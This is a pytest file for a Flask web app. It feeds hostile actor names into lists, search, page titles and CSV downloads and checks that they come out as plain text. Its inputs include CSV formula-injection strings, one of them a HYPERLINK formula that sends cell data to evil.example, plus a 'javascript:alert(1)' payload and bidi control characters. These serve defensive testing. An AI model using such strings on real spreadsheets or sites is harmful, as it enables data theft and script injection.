"""Hostile names in lists, search, head of the page and downloads: safe, and still to be read."""

from __future__ import annotations

import csv
import gzip
from urllib.parse import quote

import pytest
from flask.testing import FlaskClient
from playwright.sync_api import Browser
from pyoxigraph import DefaultGraph, Store
from selectolax.lexbor import LexborHTMLParser

from talkoot.graph.dumps import TABLES, write_dumps
from talkoot.ontology.namespaces import TALKOOT
from talkoot.web.app import create_app
from tests.web.browsing import served
from tests.web.conftest import PAGE, Hand, Page, an_actor
from tests.web.test_pages_hostile import NAMES

FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1")
MARKS = (
    "\u202egnol\u202c",
    "zero\u200bwidth\u200d\ufeff",
    "\u2066isolate",
    "javascript:alert(1)",
    "👩‍👩‍👧‍👦 🏳️‍🌈",
    "e\u0301" * 40,
)
EVERY = (*NAMES, *FORMULAS, *MARKS)
LANGUAGES = ("en", "fi", "sv")


@pytest.fixture
def hostile(hand: Hand) -> Hand:
    hand.publish(1, [quad for number, name in enumerate(EVERY) for quad in an_actor(f"a{number}", name)])
    return hand


@pytest.fixture
def client(hostile: Hand) -> FlaskClient:
    return hostile.client()


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_list_shows_every_hostile_name_as_text_kept_apart_and_linked(client: FlaskClient, language: str):
    html = client.get(f"/actors?lang={language}", headers=PAGE).get_data(as_text=True)
    tree = LexborHTMLParser(html)
    shown = {one.text().strip() for one in tree.css("main .names a bdi")}

    assert {name.strip() for name in EVERY} == shown
    assert len(tree.css("main .names a[href^='/doc/actor/']")) == len(EVERY)
    assert Page(html).scripts == 0
    assert Page(html).handlers == []


@pytest.mark.parametrize("name", EVERY)
def test_search_takes_a_hostile_text_and_says_it_back_as_text(client: FlaskClient, name: str):
    answer = client.get(f"/search?q={quote(name)}", headers=PAGE)
    page = Page(answer.get_data(as_text=True))

    assert answer.status_code == 200
    assert page.scripts == 0
    assert page.handlers == []
    assert not [href for href in page.hrefs if not href.startswith(("/", "#"))]


def test_the_head_of_a_page_holds_a_hostile_name_as_text(client: FlaskClient):
    for number, name in enumerate(EVERY):
        tree = LexborHTMLParser(client.get(f"/doc/actor/a{number}", headers=PAGE).get_data(as_text=True))
        title = tree.css_first("head > title")
        assert title is not None
        assert " ".join(name.split()) in " ".join(title.text().split()) or "\ufeff" in name
        assert len(tree.css("title")) == 1
        assert {one.tag for one in tree.css("head > *")} <= {"meta", "title", "link", "script"}


@pytest.mark.browser
def test_a_list_of_hostile_names_is_legible_and_does_not_scroll_sideways(hostile: Hand, browser: Browser):
    with served(lambda host: create_app(hostile.settings)) as address:
        context = browser.new_context(base_url=address, viewport={"width": 320, "height": 900})
        page = context.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for path in ("/actors", "/search?q=alert", "/", "/doc/actor/a5", "/doc/actor/a3"):
            page.goto(path)
            assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0, path
        page.goto("/actors")
        neighbours = page.locator(".names li").filter(has_text="1+1").first
        assert page.evaluate("one => getComputedStyle(one).direction", neighbours.element_handle()) == "ltr"
        assert page.evaluate(
            "[...document.querySelectorAll('.names li')].every(one => one.getBoundingClientRect().height >= 20)"
        )
        assert dialogs == []
        context.close()


@pytest.mark.parametrize("table", sorted(TABLES))
def test_no_cell_of_a_download_is_a_formula_and_every_name_is_whole(hostile: Hand, table: str):
    folder = hostile.settings.current.resolve()
    quads = Store.read_only(str(folder / "store")).quads_for_pattern(None, None, None, DefaultGraph())
    write_dumps(folder, [], [quad.triple for quad in quads], TALKOOT)
    with gzip.open(folder / f"{table}.csv.gz", "rt", encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))

    assert not [cell for row in rows for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@"))]
    if table == "actors":
        assert {row["skos:prefLabel@fi"].removeprefix("'") for row in rows} == set(EVERY)
